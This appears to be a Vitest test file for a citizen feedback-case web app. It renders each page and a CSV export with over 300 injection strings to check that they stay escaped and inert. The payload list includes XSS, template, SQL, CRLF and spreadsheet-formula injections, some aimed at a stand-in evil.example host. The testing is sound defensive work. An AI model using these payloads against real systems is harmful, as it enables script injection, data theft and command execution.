import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { csvStream } from '#app/exports/csv-stream.server.ts'
import type { CaseDesk } from '#app/feedback-cases/case-desk.ts'
import { CaseDeskPage } from '#app/feedback-cases/case-desk-page.tsx'
import type { ListedCase } from '#app/feedback-cases/case-list.ts'
import { exportedCases } from '#app/feedback-cases/exported-cases.ts'
import { FollowPage } from '#app/feedback-cases/follow-page.tsx'
import type { FollowedCase } from '#app/feedback-cases/followed-case.ts'
import { FollowedCasePage } from '#app/feedback-cases/followed-case-page.tsx'
import { TellPage } from '#app/feedback-cases/tell-page.tsx'

const CORES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '$t(frame:name)',
  '{{day}} {{office}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<math><mtext><style><img src onerror=alert(1)>',
  '<form action="https://evil.example"><input name=code>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  "'; drop table feedback_cases; --",
  '" or 1=1 --',
  'x\r\nSet-Cookie: a=b',
]
const WRAPS = [
  (core: string) => core,
  (core: string) => ` ${core} `,
  (core: string) => `Xin chào ${core}`,
  (core: string) => `${core}\n${core}`,
  (core: string) => core.toUpperCase(),
  (core: string) => `${core}\u202e\u0000`,
  (core: string) => core.replaceAll('<', '\uFF1C'),
  (core: string) => `">${core}`,
  (core: string) => `'${core}'`,
  (core: string) => `\`${core}\``,
]
const PAYLOADS = CORES.flatMap((core) => WRAPS.map((wrap) => wrap(core)))

/** As React writes text and attribute values. */
const escaped = (text: string) =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#x27;')

const PLAIN = 'lời-thường'

/** A page with a payload is the page with a plain word, but for the payload as text: nothing of it became markup. */
function expectInert(render: (words: string) => string) {
  const plain = render(PLAIN).replaceAll(PLAIN, '§')
  expect(plain).toContain('§')
  for (const payload of PAYLOADS) expect(render(payload).replaceAll(escaped(payload), '§')).toBe(plain)
}

const FIELDS = ['story', 'name', 'phone', 'email', 'address', 'submission', 'opened', 'office']

const followed = (words: string): FollowedCase => ({
  ...{
    code: 'K7Q29FHX0B11',
    kind: 'petition',
    official: true,
    city: words,
    office: words,
    status: 'answered',
  },
  ...{ receivedDay: '2026-03-16', deadline: { day: '2026-04-06', left: 15 }, text: words, handledBy: words },
  extended: { from: '2026-04-01', reason: words },
  steps: [{ id: '1', day: '2026-03-16', kind: 'received', office: words }],
  answers: [{ round: 1, lang: 'en', text: words, original: words, day: '2026-03-20' }],
  ...{ handledWell: '', mayRate: true, reopenUntil: '2026-04-10', contact: 'kept', contactDays: 30 },
})

const deskOf = (words: string): CaseDesk => ({
  outside: {
    ...{ id: '1', number: 'PA-2026-0001', office: words, status: 'assigned', deadline: null, summary: words },
    may: ['classify', 'assign', 'extend', 'answer', 'setAside', 'release', 'close'],
    handlers: [{ id: '2', name: words, office: words }],
  },
  inside: {
    row: {
      ...{
        kind: 'petition',
        queue: 'ordinary',
        suspicion: 'honeypot',
        category: 'delay',
        escalation: 1,
        round: 1,
      },
      ...{ handled_well: '', first_answer: '', extension_reason: words, contact: 'kept' },
    },
    ...{ official: true, lang: 'en', receivedDay: '2026-03-16', extendedFrom: '2026-04-06' },
    ...{ handling: words, handler: words, words: [{ text: words }, { kind: 'phone' }], masked: true },
    contact: { name: words, phone: words, email: words, address: words },
    steps: [
      {
        id: '1',
        at: '2026-03-16T02:00:00.000Z',
        kind: 'extended',
        staff: words,
        from: '',
        to: words,
        note: words,
      },
    ],
    answers: [{ round: 1, original: words, text: words, sent: true, day: '2026-03-20' }],
    draft: { original: words, text: words, summary: words },
    extensionDays: 10,
    published: { question: words, answer: words, status: 'proposed', mayPublish: true },
  },
})

describe(`${PAYLOADS.length} payloads stay words`, () => {
  test('there are at least 300', () => expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(300))

  test('in every field of a citizen’s form that comes back', () => {
    expectInert((words) =>
      renderToStaticMarkup(
        <TellPage
          {...{ lang: 'vi', intent: 'phan-anh', city: words, submission: words, opened: words }}
          about={{ office: words }}
          asked={{}}
          days={{ handling: 15, contact: 30 }}
          typed={Object.fromEntries(FIELDS.map((field) => [field, words]))}
          problems={['story', 'consent']}
        />,
      ),
    )
    expectInert((words) => renderToStaticMarkup(<FollowPage lang="vi" typed={words} />))
  })

  test('on the page of a followed case, however the handler answered', () => {
    expectInert((words) =>
      renderToStaticMarkup(
        <FollowedCasePage
          {...{
            lang: 'vi',
            view: followed(words),
            address: words,
            isNew: true,
            saved: 'rated',
            typed: words,
          }}
          qr={{ size: 21, path: 'M0 0h1v1h-1z' }}
        />,
      ),
    )
  })

  test('at the desk, what was refused too', () => {
    expectInert((words) =>
      renderToStaticMarkup(
        <CaseDeskPage
          {...{ lang: 'vi', viewer: { name: words, role: 'city_office' }, desk: deskOf(words) }}
          refused={{
            intent: 'answer',
            problems: { text: 'required' },
            typed: { original: words, text: words },
          }}
        />,
      ),
    )
  })

  test('in a file: no cell begins a formula, no line is broken', async () => {
    const one: ListedCase = {
      ...{ id: '1', number: 'PA-2026-0001', kind: 'petition', official: false, status: 'assigned', round: 1 },
      ...{
        queue: 'ordinary',
        category: 'delay',
        summary: '',
        first_answer: '',
        handled_well: '',
        escalation: 0,
      },
      ...{ officeId: 'p-a', office: '', receivedDay: '2026-03-16', deadline: null, extended: false },
      ...{ handling: '', handler: '' },
    }
    async function* cases() {
      for (const words of PAYLOADS) yield { ...one, office: words, handling: words }
    }
    let text = ''
    for await (const piece of csvStream(exportedCases('vi', 'x', cases()))) text += piece.toString()
    const { parse } = await import('csv-parse/sync')
    const rows = parse(text, { delimiter: ';', bom: true }) as string[][]
    expect(rows.length).toBe(PAYLOADS.length + 1)
    const cells = rows.slice(1).flatMap((row) => [row[2] ?? '', row[8] ?? ''])
    expect(cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([])
  })
})
